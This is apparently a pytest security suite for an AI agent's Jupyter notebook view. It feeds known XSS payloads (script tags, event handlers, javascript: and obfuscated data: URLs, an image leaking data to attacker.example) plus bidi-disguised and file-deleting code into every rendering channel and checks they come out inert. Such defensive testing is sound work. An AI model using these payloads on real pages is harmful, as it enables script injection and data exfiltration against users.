"""Nothing the model writes or reads can run as script in the page: every channel of an AgentView
(text, thinking, tool inputs and results, rich outputs, notices, errors) carrying known XSS payloads,
checked on every HTML string the widgets and the static transcript hold."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import ipywidgets as w
import pytest

from nbagent.engine.contracts import events as ev
from nbagent.notebook.view import AgentView
from nbagent.notebook.view.safe import clean_html, markdown_html, safe_display_data
from nbagent.notebook.view.tools import ToolCard

PAYLOADS = (
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    "[click](javascript:window.__pwned=1)",
    '<a href="javascript:window.__pwned=1">link</a>',
    '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;top:0" onmouseover="window.__pwned=1">x</div>',
    "![img](https://attacker.example/leak?d=secret)",
    "<math><mi xlink:href=\"javascript:window.__pwned=1\">x</mi></math>",
    "<object data=\"javascript:window.__pwned=1\"></object><embed src=x>",
)
ATTACK = "\n\n".join(PAYLOADS)
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "frame"}


class _Audit(HTMLParser):
    """Collects every construct through which HTML can run script or fetch by itself."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name in {"href", "src", "srcdoc", "data", "action", "formaction", "xlink:href"}:
                if tag == "img" and name == "src" and value.startswith("data:image/"):
                    continue
                if not value.startswith(("http:", "https:", "mailto:", "#")):
                    self.problems.append(f"{tag} {name}={value[:30]}")
                if tag == "img":
                    self.problems.append(f"remote image {value[:30]}")
            if name == "style" and "position" in value:
                self.problems.append(f"{tag} style position")


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    return parser.problems


def widget_html(widget: Any) -> list[str]:
    """Every HTML string a widget tree sends to the front-end (and no Markdown at all)."""
    found: list[str] = []
    if isinstance(widget, w.HTML):
        found.append(widget.value)
    if isinstance(widget, w.Output):
        for output in widget.outputs:
            data = output.get("data", {})
            assert "text/markdown" not in data, "Markdown is rendered by the page as trusted HTML"
            assert not any("javascript" in mime for mime in data)
            found.extend(str(data[m]) for m in ("text/html", "image/svg+xml") if m in data)
    for child in getattr(widget, "children", ()):
        found.extend(widget_html(child))
    return found


def hostile_view() -> AgentView:
    view = AgentView(model="claude-sonnet-4-5", provider="simulated", context_window=200_000, max_allowed=160_000)
    view.handle(ev.ThinkingDelta(text=ATTACK))
    view.handle(ev.TextDelta(text=ATTACK))
    view.handle(ev.ToolUse(tool_use_id="t1", name="read_file", input={"path": ATTACK}))
    view.handle(ev.ToolResult(tool_use_id="t1", name="read_file", content=ATTACK, duration_s=0.1))
    view.handle(ev.ToolUse(tool_use_id="t2", name="mcp__evil__fetch", input={"url": ATTACK}))
    view.handle(ev.ToolResult(tool_use_id="t2", name="mcp__evil__fetch", content=ATTACK, is_error=True))
    view.handle(ev.ToolUse(tool_use_id="t3", name="python", input={"code": "show()"}))
    view.handle(ev.Notice(message=ATTACK))
    view.handle(ev.RetryScheduled(message=ATTACK, error_kind="overloaded", status=529, delay_s=1.0))
    view.handle(ev.TextDelta(text="\n\nand the end " + ATTACK))
    return view


def test_no_channel_of_the_live_view_carries_script_or_markdown() -> None:
    view = hostile_view()
    view.flush()
    html = widget_html(view.widget)
    assert html
    problems = [p for h in html for p in audit(h)]
    assert problems == []


def test_the_static_transcript_carries_no_script() -> None:
    view = hostile_view()
    assert audit(view.static_html()) == []


def test_the_attack_stays_readable_as_text() -> None:
    view = hostile_view()
    view.flush()
    shown = "".join(widget_html(view.widget))
    assert "onerror" in shown and "&lt;script&gt;" in shown  # shown, escaped, not dropped
    assert "and the end" in shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_in_markdown_renders_inert(payload: str) -> None:
    assert audit(markdown_html(payload)) == []
    assert audit(markdown_html(f"text with `{payload}` in code and\n\n```\n{payload}\n```")) == []


def test_markdown_keeps_formatting_tables_code_and_safe_links() -> None:
    html = markdown_html("**bold** and [docs](https://jupyter.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx < 1\n```")
    assert "<strong>bold</strong>" in html and 'href="https://jupyter.org"' in html
    assert "<table>" in html and "x &lt; 1" in html


def test_a_markdown_image_becomes_a_link_the_page_does_not_fetch() -> None:
    html = markdown_html("![chart](https://attacker.example/leak.png)")
    assert "<img" not in html and 'href="https://attacker.example/leak.png"' in html and "chart" in html


def test_tool_display_data_keeps_raster_images_and_clean_html_only() -> None:
    png = "iVBORw0KGgo="
    data = safe_display_data({"image/png": png, "text/html": '<b onclick="x()">hi</b><script>x()</script>',
                              "application/javascript": "x()", "text/plain": "fig"})
    assert data["image/png"] == png and data["text/html"] == "<b>hi</b>" and "application/javascript" not in data
    svg = safe_display_data({"image/svg+xml": '<svg onload="x()"/>'})
    assert audit(svg["text/html"]) == [] and svg["text/html"].startswith('<img src="data:image/svg+xml;base64,')


def test_tool_html_keeps_a_dataframe_table_and_data_images() -> None:
    pandas = pytest.importorskip("pandas")
    table = pandas.DataFrame({"a": [1, 2], "b": ["<x>", "y"]}).to_html()
    cleaned = clean_html(table + '<img src="data:image/png;base64,AAAA"><img src="https://x.example/a.png">')
    assert "<table" in cleaned and "&lt;x&gt;" in cleaned and 'src="data:image/png;base64,AAAA"' in cleaned
    assert "x.example" not in cleaned


NON_LINK_URLS = ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x",
                 "  data:text/html,x", "da&#9;ta:text/html,x", "d&#10;ata:image/svg+xml,x", "data:image/png;base64,AAAA")


@pytest.mark.parametrize("url", NON_LINK_URLS)
def test_tool_html_links_keep_only_http_https_and_mailto_while_images_keep_data(url: str) -> None:
    cleaned = clean_html(f'<a href="{url}">data</a><blockquote cite="{url}">q</blockquote>'
                         '<a href="https://ok.example/">web</a><a href="mailto:me@ok.example">mail</a>'
                         '<img src="data:image/png;base64,AAAA">')
    assert audit(cleaned) == [] and "data:text" not in cleaned and ">data</a>" in cleaned
    assert 'href="https://ok.example/"' in cleaned and 'href="mailto:me@ok.example"' in cleaned
    assert '<img src="data:image/png;base64,AAAA">' in cleaned


def test_rich_outputs_of_a_python_call_reach_the_card_cleaned() -> None:
    from nbagent.notebook.executor import ExecutionRecord
    from nbagent.tools.executor import ExecutionResult

    view = hostile_view()
    view.show_execution(ExecutionRecord("show()", ExecutionResult(), 0.0, 0.1, (
        {"data": {"text/html": ATTACK, "text/plain": "x"}, "metadata": {}},
        {"data": {"image/svg+xml": PAYLOADS[4]}, "metadata": {}},
        {"data": {"application/javascript": "window.__pwned=1", "text/plain": "js"}, "metadata": {}},
        {"data": {"text/markdown": ATTACK}, "metadata": {}},
    )))
    view.flush()
    assert [p for h in widget_html(view.widget) for p in audit(h)] == []
    assert audit(view.static_html()) == []


def test_the_permission_card_shows_all_of_a_long_input_and_says_how_long() -> None:
    code = "\n".join(f"x{i} = {i}" for i in range(1_000)) + "\nimport os; os.remove('important.csv')"
    view = AgentView(model="claude-sonnet-4-5", provider="simulated", context_window=200_000, max_allowed=160_000)
    view.handle(ev.ToolUse(tool_use_id="t1", name="python", input={"code": code}))
    card = view.parts[0]
    assert isinstance(card, ToolCard)
    assert "important.csv" in card._input.value and "important.csv" in view.transcript()
    assert "important.csv" in view.static_html()
    assert f"{len(code):,} characters, 1,001 lines" in card._input.value
    assert "overflow:auto" in card._input.value  # scrolls inside the card instead of being cut


def test_invisible_and_bidi_characters_in_code_are_shown_and_warned_about() -> None:
    code = 'access = "user\u202e \u2066# admin\u2069 \u2066"\nok\u200b = 1'
    view = AgentView(model="claude-sonnet-4-5", provider="simulated", context_window=200_000, max_allowed=160_000)
    view.handle(ev.ToolUse(tool_use_id="t1", name="python", input={"code": code}))
    card = view.parts[0]
    assert isinstance(card, ToolCard)
    for shown in (card._input.value, view.transcript(), view.static_html()):
        assert "⟦U+202E⟧" in shown and "⟦U+200B⟧" in shown and "\u202e" not in shown and "\u200b" not in shown
    assert "⚠ 5 invisible or direction-changing character(s)" in card._input.value
